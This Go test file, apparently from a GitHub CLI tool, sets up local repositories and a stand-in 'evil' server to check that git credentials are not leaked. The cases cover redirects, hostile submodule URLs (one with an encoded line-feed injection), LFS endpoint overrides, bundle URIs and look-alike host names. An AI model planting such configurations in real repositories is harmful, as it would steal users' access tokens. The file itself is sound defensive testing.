package cli_test

import (
	"crypto/sha256"
	"fmt"
	"net/http"
	"path/filepath"
	"strings"

	"github.com/ghapp-dev/ghapp/internal/githubtest"
	"github.com/ghapp-dev/ghapp/internal/testkit"
)

// lure is a repository, and what stands around it, that leads a careless client to
// bring its credential to evil. GitHub and evil have one name here, localhost, and
// differ by their ports.
type lure struct {
	m    *machine
	evil *evil
	cloning
	later [][]string // what git is told in the clone
}

// arrangement is a way to lay a lure.
type arrangement struct {
	set func(*lure)

	unseen   bool // evil is not asked: git does not go there, or git-lfs wants a credential first
	before   bool // evil comes before GitHub, which gets no credential either
	harmless bool // there is no evil in it, but it may look as if there were
	works    bool // and nothing is wrong with it
	since    int  // git 2.since does it

	notKept string // why it means nothing to ghapp sync; empty: it does
}

// arrangements are those that we know of.
func arrangements() map[string]arrangement {
	return map[string]arrangement{
		"nothing at all":       {set: func(l *lure) { l.commit(l.film()...); l.in("fetch") }, harmless: true, works: true},
		"a renamed repository": {set: setRenamed, harmless: true, works: true},

		"redirect of the first request":          {set: redirecting("/info/refs", anyRequest), before: true},
		"redirect of the request with the token": {set: redirecting("/info/refs", authorized)},
		"redirect of the pack":                   {set: redirecting("/git-upload-pack", anyRequest), unseen: true},
		"redirect of the pack, to be followed": {set: redirecting("/git-upload-pack", anyRequest,
			"--config=http.followRedirects=true")},
		"redirect of a push":      {set: setRedirectOfPush, notKept: "a kept directory is never pushed from"},
		"redirect of large files": {set: redirecting("/objects/batch", authorized), unseen: true},

		"submodule":                  {set: submoduleAt("{evil}/acme/site")},
		"submodule of a submodule":   {set: setNested},
		"relative submodule":         {set: submoduleAt("../../../{host}/acme/site")},
		"submodule with a user":      {set: submoduleAt("http://x-access-token@{host}/acme/site")},
		"submodule with our host":    {set: submoduleAt("http://localhost@{host}/acme/site")},
		"submodule with a line feed": {set: submoduleAt("{evil}/%0ahost=localhost:{ours}%0a/acme/site"), unseen: true},

		"endpoint of large files": {set: largeFilesAt("[lfs]\n\turl = {evil}/acme/site.git/info/lfs\n")},
		"endpoint of a remote's large files": {
			set: largeFilesAt("[remote \"origin\"]\n\tlfsurl = {evil}/acme/site.git/info/lfs\n")},
		"endpoint of large files with a user": {
			set: largeFilesAt("[lfs]\n\turl = http://x-access-token@{host}/acme/site.git/info/lfs\n")},
		"endpoint of large files with a demand": {
			set: largeFilesAt("[lfs]\n\turl = {evil}/x\n[lfs \"{evil}/x\"]\n\taccess = basic\n"), unseen: true},
		"store of large files": {set: setStore},

		"bundle of the server": {set: setBundle, since: 40},
		"bundle of the user": {
			set: func(l *lure) { l.commit(); l.options = []string{"--bundle-uri=" + l.evil.url + "/x.bundle"} }},
		"rewrite in the clone": {set: setRewrite},

		"another port":          {set: lookAlike("{host}"), before: true},
		"a longer name":         {set: lookAlike("localhost.evil.test:{port}"), before: true},
		"a name with a prefix":  {set: lookAlike("evil-localhost:{port}"), before: true},
		"our name as a user":    {set: lookAlike("localhost@{host}"), before: true},
		"our name in capitals":  {set: lookAlike("LOCALHOST:{ours}"), before: true, harmless: true},
		"our name and a dot":    {set: lookAlike("localhost.:{ours}"), before: true, harmless: true},
		"our address as number": {set: lookAlike("127.0.0.1:{ours}"), before: true, harmless: true},
	}
}

// commit makes the repository.
func (l *lure) commit(entries ...githubtest.Entry) {
	l.m.t.Helper()
	l.m.world.commit(l.m.t, l.repository,
		append(entries, githubtest.Entry{Path: "name.txt", Content: l.repository + "\n"})...)
}

// film are the entries of a large file.
func (l *lure) film() []githubtest.Entry {
	repository := l.m.github.AddRepository(l.repository, githubtest.RepositoryOptions{})
	return []githubtest.Entry{
		{Path: ".gitattributes", Content: "*.lfs filter=lfs -text\n"},
		{Path: "film.lfs", Content: repository.AddObject(largeText)},
	}
}

// in tells git something more, in the clone.
func (l *lure) in(args ...string) { l.later = append(l.later, args) }

// fill puts the places into a text.
func (l *lure) fill(text string) string {
	port := func(address string) string { return address[strings.LastIndexByte(address, ':')+1:] }
	return strings.NewReplacer("{evil}", l.evil.url, "{host}", strings.TrimPrefix(l.evil.url, "http://"),
		"{port}", port(l.evil.url), "{ours}", port(l.m.host)).Replace(text)
}

// requests are those for what is at the end of an address of the repository.
func (l *lure) requests(end string) func(*http.Request) bool {
	return func(r *http.Request) bool {
		return !isSettle(r) && strings.HasPrefix(r.URL.Path, "/"+l.repository) && strings.HasSuffix(r.URL.Path, end)
	}
}

func anyRequest(match func(*http.Request) bool) func(*http.Request) bool { return match }

func redirecting(end string, kind func(func(*http.Request) bool) func(*http.Request) bool,
	options ...string) func(*lure) {
	return func(l *lure) {
		l.commit(l.film()...)
		l.m.traffic.divert(kind(l.requests(end)), movedTo(l.evil.url))
		l.options = options
	}
}

func setRedirectOfPush(l *lure) {
	l.commit()
	discovery := l.requests("/info/refs")
	l.m.traffic.divert(func(r *http.Request) bool {
		return discovery(r) && r.URL.Query().Get("service") == "git-receive-pack"
	}, movedTo(l.evil.url))
	l.in("push", "origin", "HEAD:refs/heads/new")
}

func setRenamed(l *lure) {
	l.commit(l.film()...)
	testkit.OK(l.m.t, l.m.github.Rename(l.repository, strings.TrimPrefix(l.repository, "acme/")+"-now"))
	l.in("fetch")
}

func submoduleAt(address string) func(*lure) {
	return func(l *lure) {
		l.commit(submodule("sub", l.fill(address), evilHead(l.m.t))...)
		l.options = []string{"--recurse-submodules"}
	}
}

func setNested(l *lure) {
	inner := l.repository + "-inner"
	head := l.m.world.commit(l.m.t, inner, submodule("deeper", l.evil.url+"/acme/site", evilHead(l.m.t))...)
	l.commit(submodule("sub", "../"+strings.TrimPrefix(inner, "acme/")+".git", head)...)
	l.options = []string{"--recurse-submodules"}
}

func largeFilesAt(config string) func(*lure) {
	return func(l *lure) {
		l.commit(append(l.film(), githubtest.Entry{Path: ".lfsconfig", Content: l.fill(config)})...)
	}
}

// setStore makes GitHub name a store of large files that asks for a password.
func setStore(l *lure) {
	l.commit(l.film()...)
	l.m.traffic.divert(authorized(l.requests("/objects/batch")),
		http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/vnd.git-lfs+json")
			fmt.Fprintf(w,
				`{"transfer": "basic", "objects": [{"oid": "%x", "size": %d, "actions": {"download": {"href": "%s/film"}}}]}`,
				sha256.Sum256([]byte(largeText)), len(largeText), l.evil.url)
		}))
}

// setBundle makes GitHub name a bundle (https://git-scm.com/docs/bundle-uri), for a
// user who wants such.
func setBundle(l *lure) {
	l.commit()
	file := filepath.Join(l.m.dir, fmt.Sprintf("%d.git", l.m.github.Repository(l.repository).ID), "config")
	l.m.configure(file, "uploadpack.advertiseBundleURIs", "true")
	l.m.configure(file, "bundle.version", "1")
	l.m.configure(file, "bundle.mode", "all")
	l.m.configure(file, "bundle.one.uri", l.evil.url+"/x.bundle")
	l.options = []string{"--config=transfer.bundleURI=true"}
}

// setRewrite is what somebody who may write to the clone's configuration can do.
func setRewrite(l *lure) {
	l.commit()
	l.in("config", "url."+l.evil.url+"/.insteadOf", "http://"+l.m.host+"/")
	l.in("fetch")
}

// lookAlike is an address that is taken for GitHub's.
func lookAlike(host string) func(*lure) {
	return func(l *lure) {
		l.commit()
		host := l.fill(host)
		l.address = "http://" + host + "/" + l.repository + ".git"
		_, place, _ := strings.Cut("@"+host, "@")
		l.options = []string{"--config=http.curloptResolve=" + strings.ToLower(place) + ":127.0.0.1"}
	}
}
